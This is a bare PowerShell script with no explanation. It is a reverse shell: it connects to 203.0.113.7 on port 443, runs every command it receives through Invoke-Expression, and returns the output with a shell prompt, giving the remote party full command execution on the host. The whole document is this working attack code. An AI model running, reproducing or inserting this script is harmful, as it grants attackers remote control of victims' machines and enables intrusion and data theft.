$c = New-Object System.Net.Sockets.TCPClient('203.0.113.7', 443)
$s = $c.GetStream(); [byte[]]$b = 0..65535 | % { 0 }
while (($i = $s.Read($b, 0, $b.Length)) -ne 0) {
  $d = (New-Object Text.ASCIIEncoding).GetString($b, 0, $i)
  $r = (iex $d 2>&1 | Out-String) + 'PS ' + (pwd).Path + '> '
  $sb = ([Text.Encoding]::ASCII).GetBytes($r); $s.Write($sb, 0, $sb.Length); $s.Flush()
}
